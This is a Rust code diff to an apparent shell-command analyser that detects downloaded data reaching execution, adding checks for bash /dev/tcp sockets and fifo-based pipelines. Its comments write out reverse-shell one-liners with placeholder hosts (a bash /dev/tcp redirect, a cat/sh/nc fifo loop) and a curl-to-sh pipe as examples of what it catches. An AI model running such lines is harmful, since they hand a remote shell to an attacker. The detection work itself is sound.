@@ -97,6 +97,8 @@ pub(super) struct Walker<'o> {
     words: Words,
     /// Settings `pip config set` made in this command line, as `PIP_…` variables.
     pub pip_config: Vec<(String, String)>,
+    /// Pipelines being walked a second time (see `pipeline`): at most one.
+    rewalks: usize,
 }
 
 /// What the analysis knows of the current command's words.
@@ -131,6 +133,7 @@ impl<'o> Walker<'o> {
             approximate: Vec::new(),
             words: Words::Known,
             pip_config: Vec::new(),
+            rewalks: 0,
         }
     }
 
@@ -269,6 +272,22 @@ impl<'o> Walker<'o> {
         // Each part of a pipeline runs in a subshell: `cd` in one does not move the others.
         // Downloaded bytes taint every later part: `curl … | grep … | sh` runs them. The
         // first part reads the enclosing shell's stdin.
+        let files_before = self.flow.downloads.len();
+        let feed = self.pipeline_parts(p, ctx, depth);
+        // The parts run at once: a file a later part fills from the network is read by an
+        // earlier one (the fifo of `cat f | sh -i 2>&1 | nc HOST PORT > f`). Once such a file
+        // is known, the parts are walked again, once, with it.
+        if self.flow.downloads.len() > files_before && self.rewalks == 0 {
+            self.rewalks += 1;
+            let again = self.pipeline_parts(p, ctx, depth);
+            self.rewalks -= 1;
+            return again;
+        }
+        feed
+    }
+
+    /// Each part of a pipeline in order, the output of one the input of the next.
+    fn pipeline_parts(&mut self, p: &ast::Pipeline, ctx: &Context, depth: usize) -> Feed {
         let mut feed = self.inherited_stdin();
         let mut downloaded = false;
         for c in &p.seq {
@@ -763,20 +782,107 @@ impl<'o> Walker<'o> {
                     ast::IoFileRedirectTarget::Duplicate(w)
                         if matches!(kind, ast::IoFileRedirectKind::DuplicateInput) =>
                     {
-                        for path in self.words(&w.value, ctx, depth) {
-                            if !is_fd(&path) {
-                                self.path_op(Action::Read, &path, ctx, None);
-                            } else if self.flow.download_fds.contains(&path) {
-                                stdin = Some(downloaded_feed());
-                            }
-                        }
+                        self.duplicate_input(fd.as_ref(), &w.value, ctx, depth, &mut stdin);
                     }
                     _ => {}
                 },
                 ast::IoRedirect::OutputAndError(..) => {}
             }
         }
+        if self.socket_stdin(redirects, ctx, depth) {
+            stdin = Some(downloaded_feed());
+        }
         stdin
+    }
+
+    /// Whether the command's redirections leave a network socket on its stdin: bash's
+    /// `/dev/tcp` reads as well as writes whatever the redirection's direction, so
+    /// `bash -i >& /dev/tcp/HOST/PORT 0>&1` reads its commands from there.
+    fn socket_stdin(
+        &mut self,
+        redirects: &[&ast::IoRedirect],
+        ctx: &mut Context,
+        depth: usize,
+    ) -> bool {
+        // Descriptors pointed at a socket so far.
+        let mut sockets: Vec<String> = Vec::new();
+        let mut stdin = false;
+        for r in redirects {
+            match r {
+                ast::IoRedirect::OutputAndError(w, _)
+                    if self.names_socket(&w.value, ctx, depth) =>
+                {
+                    sockets.extend(["1".to_owned(), "2".to_owned()]);
+                }
+                ast::IoRedirect::File(
+                    fd,
+                    ast::IoFileRedirectKind::Write
+                    | ast::IoFileRedirectKind::Append
+                    | ast::IoFileRedirectKind::Clobber,
+                    ast::IoFileRedirectTarget::Filename(w),
+                ) if self.names_socket(&w.value, ctx, depth) => {
+                    sockets.push(fd.unwrap_or(1).to_string());
+                }
+                ast::IoRedirect::File(
+                    fd,
+                    ast::IoFileRedirectKind::ReadAndWrite,
+                    ast::IoFileRedirectTarget::Filename(w),
+                ) if self.names_socket(&w.value, ctx, depth) => {
+                    sockets.push(fd.unwrap_or(0).to_string());
+                }
+                ast::IoRedirect::File(
+                    fd,
+                    kind @ (ast::IoFileRedirectKind::DuplicateOutput
+                    | ast::IoFileRedirectKind::DuplicateInput),
+                    ast::IoFileRedirectTarget::Duplicate(w),
+                ) => {
+                    let input = matches!(kind, ast::IoFileRedirectKind::DuplicateInput);
+                    let to = fd.unwrap_or(i32::from(!input)).to_string();
+                    for from in self.words(&w.value, ctx, depth) {
+                        if !is_fd(&from) {
+                            // `>& FILE` is `&> FILE`.
+                            if is_socket_path(&from) {
+                                sockets.extend(["1".to_owned(), "2".to_owned()]);
+                            }
+                        } else if sockets.contains(&from) || self.flow.download_fds.contains(&from)
+                        {
+                            if to == "0" {
+                                stdin = true;
+                            }
+                            sockets.push(to.clone());
+                        }
+                    }
+                }
+                _ => {}
+            }
+        }
+        stdin
+    }
+
+    /// Whether a redirection's target word is one of bash's network paths.
+    fn names_socket(&mut self, word: &str, ctx: &mut Context, depth: usize) -> bool {
+        self.words(word, ctx, depth)
+            .iter()
+            .any(|p| is_socket_path(p))
+    }
+
+    /// `<&WORD`: a path is read; a descriptor that reads a download is the command's
+    /// stdin when it is fd 0.
+    fn duplicate_input(
+        &mut self,
+        fd: Option<&i32>,
+        word: &str,
+        ctx: &mut Context,
+        depth: usize,
+        stdin: &mut Option<Feed>,
+    ) {
+        for path in self.words(word, ctx, depth) {
+            if !is_fd(&path) {
+                self.path_op(Action::Read, &path, ctx, None);
+            } else if self.flow.download_fds.contains(&path) && fd.is_none_or(|f| *f == 0) {
+                *stdin = Some(downloaded_feed());
+            }
+        }
     }
 
     /// Descriptors a command's redirections open on paths (`3< DIR`, `3<> FILE`) or copy
@@ -1284,7 +1390,12 @@ fn pseudo_file(path: &str) -> bool {
 
 /// A redirect target naming a file descriptor (`2>&1`, `>&-`).
 /// What a network descriptor feeds a command.
-fn downloaded_feed() -> Feed {
+/// bash's network paths: opening one connects a socket.
+fn is_socket_path(path: &str) -> bool {
+    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
+}
+
+pub(super) fn downloaded_feed() -> Feed {
     Feed {
         downloaded: true,
         ..Feed::default()
